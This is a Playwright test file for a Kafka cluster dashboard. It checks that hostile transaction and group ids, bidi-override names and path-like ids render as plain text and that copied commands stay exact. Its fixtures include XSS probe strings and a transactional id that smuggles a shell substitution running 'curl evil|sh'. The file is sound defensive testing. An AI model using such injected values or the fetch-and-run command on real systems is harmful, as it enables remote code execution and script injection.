import { expect, test } from "@playwright/test";
import type { FindingDetailDto } from "../../lib/ui/dto";
import { BIDI_GROUP_ID, DEMO_CLUSTER, HOSTILE_GROUP_ID, HOSTILE_TXN_ID, PATHY_TXN_ID, SHELL_HOSTILE_TXN_ID } from "../../scripts/seed-demo-names";
import { expandFindingGroups } from "./finding-groups";
import { screenshotAtWidths } from "./screenshots";

const c = `/clusters/${DEMO_CLUSTER}`;

test.beforeEach(async ({ page }) => {
  page.on("dialog", (dialog) => {
    throw new Error(`A script ran: dialog "${dialog.message()}"`);
  });
});

async function expectNoInjectedMarkup(page: import("@playwright/test").Page) {
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  expect(await page.locator("script:not([src])").evaluateAll((els) => els.filter((e) => e.textContent?.includes("alert(1)")).length)).toBe(0);
}

test("a hostile transactional id renders as text in the list and on its own page", async ({ page }) => {
  await page.goto(`${c}/transactions`);
  const link = page.getByRole("link", { name: HOSTILE_TXN_ID });
  await expect(link).toBeVisible();
  await expectNoInjectedMarkup(page);
  await link.click();
  await expect(page).toHaveURL(`${c}/transactions/${encodeURIComponent(HOSTILE_TXN_ID)}`);
  await expect(page.getByTestId("entity-title")).toHaveText(HOSTILE_TXN_ID);
  await expect(page.getByText("Ongoing").first()).toBeVisible();
  await expectNoInjectedMarkup(page);
});

test("a hostile group id renders as text in the list and on its own page", async ({ page }) => {
  await page.goto(`${c}/groups`);
  const link = page.getByRole("link", { name: HOSTILE_GROUP_ID });
  await expect(link).toBeVisible();
  await link.click();
  await expect(page.getByTestId("entity-title")).toHaveText(HOSTILE_GROUP_ID);
  await expect(page.getByRole("cell", { name: "<b>client</b>" }).first()).toBeVisible();
  await expectNoInjectedMarkup(page);
  await screenshotAtWidths(page, page.url(), "hostile-group", async (p) => {
    await expect(p.getByTestId("entity-title")).toHaveText(HOSTILE_GROUP_ID);
  });
});

test("ids with '/', '#', '?', '%' and spaces survive the round trip through the URL", async ({ page }) => {
  await page.goto(`${c}/transactions?prefix=etl`);
  await page.getByRole("link", { name: PATHY_TXN_ID }).click();
  await expect(page.getByTestId("entity-title")).toHaveText(PATHY_TXN_ID);
  await expect(page.getByText("Empty").first()).toBeVisible();
});

/** The info findings, every group of alike findings expanded. */
async function infoFindings(page: import("@playwright/test").Page) {
  await page.goto(`${c}/findings?severity=info`);
  await expandFindingGroups(page);
}

test("a finding whose text holds markup renders it as text", async ({ page }) => {
  await infoFindings(page);
  await page.getByRole("link", { name: `Transaction ${HOSTILE_TXN_ID} is open` }).click();
  await expect(page.getByText('"><script>alert(2)</script> is rendered as text.', { exact: false })).toBeVisible();
  await expectNoInjectedMarkup(page);
});

/** Opens a seeded info finding by title; returns what the API says its commands are. */
async function openFinding(page: import("@playwright/test").Page, title: string) {
  await infoFindings(page);
  await page.getByRole("link", { name: title }).click();
  await expect(page).toHaveURL(/\/findings\//);
  const id = decodeURIComponent(new URL(page.url()).pathname.split("/").pop()!);
  const detail: FindingDetailDto = await (await page.request.get(`/api/clusters/${DEMO_CLUSTER}/findings/${encodeURIComponent(id)}`)).json();
  return detail.finding;
}

async function expectCopiedExactly(page: import("@playwright/test").Page, index: number, line: string) {
  await page.getByRole("button", { name: "Copy command" }).nth(index).click();
  await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(line);
}

test("an id carrying a fake command adds no command block, and each command is copied exactly", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const finding = await openFinding(page, "Transaction with a shell-hostile id is open");
  expect(finding.remediation).toContain(SHELL_HOSTILE_TXN_ID);
  expect(finding.commands.map((x) => x.line)).toEqual([
    "kafka-transactions.sh --bootstrap-server 127.0.0.1:9092 describe --transactional-id='billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
    "kafka-transactions.sh --bootstrap-server 127.0.0.1:9092 abort --topic=payments --partition 1 --start-offset 1000",
  ]);
  const remediation = page.getByRole("region", { name: "What to do" });
  await expect(remediation.locator("pre")).toHaveText(finding.commands.map((x) => x.line!));
  await expect(remediation.getByRole("button", { name: "Copy command" })).toHaveCount(2);
  // The id stays in the prose, as text.
  await expect(remediation.locator("p.prose").first()).toContainText(SHELL_HOSTILE_TXN_ID);
  await expectCopiedExactly(page, 0, finding.commands[0].line!);
  await screenshotAtWidths(page, page.url(), "finding-hostile-command", async (p) => {
    await expect(p.getByRole("region", { name: "What to do" }).locator("pre")).toHaveCount(2);
  });
  await expectNoInjectedMarkup(page);
});

test("a name with a right-to-left override and a line break is flagged, and copied exactly", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const finding = await openFinding(page, "Lag of a group with a right-to-left override in its id sits on few partitions");
  const line = finding.commands[0].line!;
  expect(line).toBe(
    `kafka-consumer-groups.sh --bootstrap-server 127.0.0.1:9092 --describe --members --verbose --group='${BIDI_GROUP_ID}'`,
  );
  const remediation = page.getByRole("region", { name: "What to do" });
  expect(await remediation.locator("pre code").textContent()).toBe(line);
  await expect(remediation.getByRole("note")).toContainText("direction-changing characters");
  await expectCopiedExactly(page, 0, line);
  await screenshotAtWidths(page, page.url(), "finding-bidi-command", async (p) => {
    await expect(p.getByRole("region", { name: "What to do" }).getByRole("note")).toBeVisible();
  });
});
